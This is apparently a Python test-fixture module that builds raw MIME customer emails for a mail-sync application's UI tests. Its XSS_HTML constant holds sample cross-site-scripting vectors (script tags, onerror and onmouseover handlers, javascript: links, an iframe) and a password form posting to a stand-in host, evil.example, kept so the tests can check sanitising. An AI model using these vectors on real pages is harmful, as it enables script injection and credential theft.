"""Customer mail for the UI tests, stored through the real import path (raw MIME -> store_message)."""

from datetime import UTC, datetime, timedelta
from email.message import EmailMessage
from email.utils import format_datetime, make_msgid

from mailsync.storing import store_message

PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360f8cfc0f01f0005"
    "0001ff5a1d8c9e0000000049454e44ae426082"
)
XSS_HTML = """<html><body>
<p>Hello, <b>please</b> see my order.</p>
<script>window.xssRan = true; alert('script');</script>
<img src="x" onerror="window.xssRan = true; alert('onerror')">
<img src="http://tracker.example/pixel.gif" alt="tracking pixel">
<a href="javascript:window.xssRan = true; alert('link')" id="js-link">Click me</a>
<div onmouseover="window.xssRan = true">hover</div>
<svg><script>window.xssRan = true</script></svg>
<iframe src="javascript:window.parent.xssRan = true"></iframe>
<form action="https://evil.example/steal"><input name="password"></form>
</body></html>"""
BASE_TIME = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)


def customer_mail(
    pok,
    sender="Jan Kowalski <jan@example.com>",
    subject="Where is my parcel?",
    text="Hello,\nwhere is it?",
    html=None,
    when=None,
    attachments=(),
    inline_images=(),
    extra_headers=None,
) -> bytes:
    mail = EmailMessage()
    mail["From"] = sender
    mail["To"] = pok.from_address
    mail["Subject"] = subject
    mail["Date"] = format_datetime(when or BASE_TIME)
    mail["Message-ID"] = make_msgid(domain="example.com")
    for name, value in (extra_headers or {}).items():
        mail[name] = value
    mail.set_content(text)
    if html is not None:
        mail.add_alternative(html, subtype="html")
        for content_id, data in inline_images:
            mail.get_payload()[1].add_related(data, maintype="image", subtype="png", cid=f"<{content_id}>")
    for filename, data, maintype, subtype in attachments:
        mail.add_attachment(data, maintype=maintype, subtype=subtype, filename=filename)
    return mail.as_bytes()


def receive(pok, **fields):
    """Store one customer mail; returns the Message (its thread is message.thread)."""
    _status, message = store_message(pok, customer_mail(pok, **fields))
    return message


def receive_threads(pok, count: int, start=BASE_TIME):
    """`count` threads, one message each, an hour apart (the first is the oldest)."""
    return [
        receive(
            pok, sender=f"Customer {n} <c{n}@example.com>", subject=f"Question {n:03d}", when=start + timedelta(hours=n)
        ).thread
        for n in range(count)
    ]
